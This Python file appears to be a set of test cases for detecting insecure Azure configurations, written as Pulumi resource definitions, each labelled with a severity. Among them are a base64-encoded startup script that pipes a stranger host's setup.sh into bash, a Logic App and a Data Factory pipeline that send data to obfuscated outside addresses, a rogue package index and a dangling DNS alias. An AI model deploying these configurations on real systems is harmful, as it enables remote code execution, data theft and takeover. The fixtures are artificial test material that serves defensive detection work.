"""Attacks on Azure: rights, data and code of strangers (2026-11-29, fifteenth set, written blind).

Properties by pulumi-azure-native 3.29.0. Read in excerpts on 2026-11-29: API Management ('Set header', exists-action),
Azure Synapse ('Manage Python libraries') and App Service ('Configure path mappings'). Operations of roles by copies of
the reference on GitHub and the definitions of built-in roles (iann0036/iam-dataset 2073fa52); everything else, and
whether Fabric takes a guest as administrator, by documentation, as known.
"""

import base64

from ..blind import HERE, OURS, RG, SUB, TAGS, az
from ..harness import UNKNOWN, Given
from . import Attack
from .fourteenth_azure import PRINCIPAL, STRANGER_HOST, VNET
from .tenth_azure import ESC, ID, IDN, RES

USER = {"identity": {"type": "UserAssigned", "userAssignedIdentities": [ID]}}
DATA_FACTORY_CONTRIBUTOR = "673868aa-7521-48a0-acc6-0f60742d39f5"
HIDDEN = base64.b64encode(f"https://{STRANGER_HOST}/in".encode()).decode()
START = base64.b64encode(f"#!/bin/bash\ncurl -fsSL https://{STRANGER_HOST}/setup.sh | bash\n".encode()).decode()
SENDS_AWAY = {
    "$schema": "https://schema.management.azure.com/schemas/2016-06-01/Microsoft.Logic.json", "contentVersion":
    "1.0.0.0", "triggers": {"hourly": {"type": "Recurrence", "recurrence": {"frequency": "Hour", "interval": 1}}},
    "actions": {"send": {"type": "Http", "runAfter": {}, "inputs": {
        "method": "POST", "uri": f"@base64ToString('{HIDDEN}')", "body": "@variables('rows')"}}},
}  # fmt: skip
CALLER = """<policies>
  <inbound>
    <base />
    <validate-jwt header-name="Authorization" require-scheme="Bearer" output-token-variable-name="token">
      <openid-config
        url="https://login.microsoftonline.com/00000000-1111-2222-3333-444444444444/.well-known/openid-configuration"
      />
      <audiences><audience>api://payments</audience></audiences>
    </validate-jwt>
    <set-header name="X-Customer-Id" exists-action="skip">
      <value>@(((Jwt)context.Variables["token"]).Subject)</value>
    </set-header>
  </inbound>
  <backend><base /></backend>
  <outbound><base /></outbound>
</policies>"""
SITE_SETTINGS = {"minTlsVersion": "1.2", "scmMinTlsVersion": "1.2", "ftpsState": "Disabled", "alwaysOn": True}
SITE = {
    **HERE, "name": "portal", "kind": "app", "serverFarmId": UNKNOWN, "httpsOnly": True, "clientCertEnabled": True,
    "clientCertMode": "Required", "publicNetworkAccess": "Disabled", "identity": {"type": "SystemAssigned"},
    "virtualNetworkSubnetId": f"{VNET}/subnets/apps",
}  # fmt: skip
POOL = {
    **RG, "accountName": "batchbank", "poolName": "ocr", "vmSize": "STANDARD_D4S_V5", "tags": TAGS,
    "resourceTags": TAGS, **USER, "targetNodeCommunicationMode": "Simplified", "interNodeCommunication": "Disabled",
    "scaleSettings": {"autoScale": {"evaluationInterval": "PT5M", "formula": "$TargetLowPriorityNodes=2;"}},
    "deploymentConfiguration": {"virtualMachineConfiguration": {
        "imageReference": {"publisher": "canonical", "offer": "ubuntu-24_04-lts", "sku": "server",
                           "version": "latest"}, "nodeAgentSkuId": "batch.node.ubuntu 24.04",
        "securityProfile": {"encryptionAtHost": True}}},
}  # fmt: skip


def _role(name: str, *actions: str) -> tuple[Given, ...]:
    return (az("authorization:RoleDefinition", {
        "scope": SUB, "roleName": name, "roleType": "CustomRole", "assignableScopes": [SUB], "permissions": [
            {"notActions": [], "actions": list(actions)}]}),)  # fmt: skip


ATTACKS = (
    Attack("a custom role opens the console of every machine", IDN, _role(
        "Console support", "Microsoft.Compute/virtualMachines/read", "Microsoft.SerialConsole/serialPorts/read",
        "Microsoft.SerialConsole/serialPorts/connect/action"),
        "major", "a restart into single-user mode gives root (Azure Serial Console, 'Linux', single user mode)"),
    Attack("a custom role makes itself administrator of every database server", IDN, _role(
        "Database support", "Microsoft.Sql/servers/read", "Microsoft.Sql/servers/administrators/write",
        "Microsoft.DBforPostgreSQL/flexibleServers/administrators/write"),
        "critical", "it reads and changes every row (Azure SQL, 'Microsoft Entra administrator')"),
    Attack("a custom role replaces images of every registry", IDN, _role(
        "Registry support", "Microsoft.ContainerRegistry/registries/read",
        "Microsoft.ContainerRegistry/registries/importImage/action",
        "Microsoft.ContainerRegistry/registries/scheduleRun/action"),
        "critical", "an import overwrites tags with a stranger's image (Azure Container Registry, 'Import images')"),
    Attack("an identity changes and runs the pipelines of every factory", IDN, (az("authorization:RoleAssignment", {
        "scope": SUB, "principalId": PRINCIPAL, "principalType": "ServicePrincipal", "roleDefinitionId":
            f"{SUB}/providers/Microsoft.Authorization/roleDefinitions/{DATA_FACTORY_CONTRIBUTOR}"}),),
        "major", "they act as the identities of the factories ('Data Factory Contributor')"),
    Attack("the capacity of reports is administered by a stranger", IDN, (az("fabric:FabricCapacity", {
        **HERE, "capacityName": "fabricbank", "sku": {"name": "F4", "tier": "Fabric"},
        "administration": {"members": [f"reports@{STRANGER_HOST}"]}}),),
        "major", "he assigns workspaces to it and changes its settings (Microsoft Fabric, 'Capacity settings')"),
    Attack("callers of an API say themselves which customer they are", IDN, (az("apimanagement:ApiPolicy", {
        **RG, "serviceName": "apim-bank", "apiId": "payments", "policyId": "policy", "format": "rawxml",
        "value": CALLER}),),
        "critical", "the header of the caller stays (API Management, 'Set header', exists-action skip)"),
    Attack("a workflow sends rows to an address that it decodes", RES, (az("logic:Workflow", {
        **HERE, "workflowName": "claims", "state": "Enabled", "identity": {"type": "SystemAssigned"},
        "definition": SENDS_AWAY, "accessControl": {
            "triggers": {"allowedCallerIpAddresses": []},
            "contents": {"allowedCallerIpAddresses": [{"addressRange": "10.20.0.0/16"}]}}}),),
        "critical", "a stranger has them (Azure Logic Apps, workflow functions, base64ToString)"),
    Attack("a pipeline sends rows to an address that it composes", RES, (az("datafactory:Pipeline", {
        **RG, "factoryName": "adf-bank", "pipelineName": "orders", "concurrency": 1, "activities": [{
            "name": "send", "type": "WebActivity", "method": "POST", "body": "@activity('read').output",
            "policy": {"timeout": "0.02:00:00", "retry": 1, "secureOutput": True, "secureInput": True},
            "url": "@replace(replace('https!//collector*example/in', '!', ':'), '*', '.')"}]}),),
        "critical", "a stranger has them (Azure Data Factory, expressions, replace)"),
    Attack("a database server may send to an account of a stranger by name", RES, (az("sql:OutboundFirewallRule", {
        **RG, "serverName": "sql-bank", "outboundRuleFqdn": "collector.blob.core.windows.net"}),),
        "critical", "exports and audits reach it (Azure SQL, 'Outbound firewall rules')"),
    Attack("a name of the bank is an alias of a label that anybody may take", RES, (az("dns:RecordSet", {
        **RG, "zoneName": "example.ae", "relativeRecordSetName": "pay", "recordType": "CNAME", "ttl": 300,
        "cnameRecord": {"cname": "collector-pay.uaenorth.cloudapp.azure.com"}}),),
        "critical", "customers pay at his machine (Azure DNS, 'Prevent dangling DNS entries')"),
    Attack("a disk is made of an image that a stranger shares with everybody", ESC, (az("compute:Disk", {
        **HERE, "diskName": "core-os", "sku": {"name": "Premium_LRS"}, "diskSizeGB": 128, "osType": "Linux",
        "publicNetworkAccess": "Disabled", "networkAccessPolicy": "DenyAll", "creationData": {
            "createOption": "FromImage", "galleryImageReference": {
                "communityGalleryImageId": "/CommunityGalleries/collector-1a2b3c/Images/ubuntu/Versions/24.4.1"}},
        "encryption": {"type": "EncryptionAtRestWithCustomerKey",
                       "diskEncryptionSetId": f"{OURS}.Compute/diskEncryptionSets/des"}}, protect=True),),
        "critical", "whatever he put in it starts with the machine (Azure Compute Gallery, 'Community gallery')"),
    Attack("workstations of learning run a stranger's script when they start", ESC, (
        az("machinelearningservices:Compute", {
            **HERE, **USER, "workspaceName": "ml", "computeName": "analyst", "properties": {
                "computeType": "ComputeInstance", "disableLocalAuth": True, "properties": {
                    "vmSize": "Standard_D4ds_v5", "enableNodePublicIp": False, "idleTimeBeforeShutdown": "PT1H",
                    "applicationSharingPolicy": "Personal", "sshSettings": {"sshPublicAccess": "Disabled"},
                    "subnet": {"id": f"{VNET}/subnets/ml"}, "setupScripts": {"scripts": {"startupScript": {
                        "scriptSource": "inline", "scriptData": START, "timeout": "10m"}}}}}}),),
        "critical", "it has the identity and the data (Azure Machine Learning, 'Customize the compute instance')"),
    Attack("notebooks of the lake install packages from a stranger's index", ESC, (az("synapse:BigDataPool", {
        **HERE, "workspaceName": "syn-bank", "bigDataPoolName": "etl", "sparkVersion": "3.5", "nodeSize": "Small",
        "nodeSizeFamily": "MemoryOptimized", "autoPause": {"enabled": True, "delayInMinutes": 15},
        "autoScale": {"enabled": True, "minNodeCount": 3, "maxNodeCount": 4}, "sessionLevelPackagesEnabled": False,
        "libraryRequirements": {"filename": "requirements.txt", "content":
            f"--extra-index-url https://pypi.{STRANGER_HOST}/simple\nbank-rules==1.4.2\n"}}),),
        "critical", "his package of the same name runs (Azure Synapse, 'Manage libraries', requirements.txt)"),
    Attack("each machine of a pool is reached by ssh from everywhere", ("FJ-EXP-", "FJ-ESC-"), (az("batch:Pool", {
        **POOL, "networkConfiguration": {"subnetId": f"{VNET}/subnets/batch", "endpointConfiguration": {
            "inboundNatPools": [{"name": "ssh", "protocol": "TCP", "backendPort": 22, "frontendPortRangeStart": 50000,
                                 "frontendPortRangeEnd": 50100, "networkSecurityGroupRules": [{
                                     "access": "Allow", "priority": 150, "sourceAddressPrefix": "*"}]}]}}}),),
        "critical", "passwords are guessed (Azure Batch, 'Pool endpoints', InboundNatPool)"),
    Attack("the app serves the folder of its own logs", ("FJ-EXP-", "FJ-ESC-"), (az("web:WebApp", {
        **SITE, "siteConfig": {**SITE_SETTINGS, "virtualApplications": [
            {"virtualPath": "/", "physicalPath": "site\\wwwroot", "preloadEnabled": True},
            {"virtualPath": "/status", "physicalPath": "LogFiles", "preloadEnabled": False}]}}),),
        "major", "each caller reads requests and errors (App Service, 'Map a URL path to a directory')"),
)  # fmt: skip
